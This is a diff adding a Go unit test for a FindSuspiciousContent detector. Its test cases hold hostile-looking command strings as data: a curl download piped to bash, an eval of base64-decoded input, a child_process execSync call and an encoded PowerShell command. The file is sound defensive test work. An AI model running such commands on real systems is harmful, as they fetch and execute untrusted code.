@@ -0,0 +1,29 @@
+package detections
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestFindSuspiciousContent(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+		want  []string
+	}{
+		{"empty", "", nil},
+		{"benign", "node scripts/build.js && echo done", nil},
+		{"curl pipe to shell", "curl -s https://example.com/x | bash", []string{"curl", "| bash"}},
+		{"eval", "x=eval(atob(p))", []string{"eval("}},
+		{"regexp exec", "re.exec(s)", nil},
+		{"child_process", `require("child_process").execSync("id")`, []string{"child_process"}},
+		{"powershell", "powershell -enc SQBFAFgA", []string{"powershell -enc"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := FindSuspiciousContent(tt.input); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("FindSuspiciousContent() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}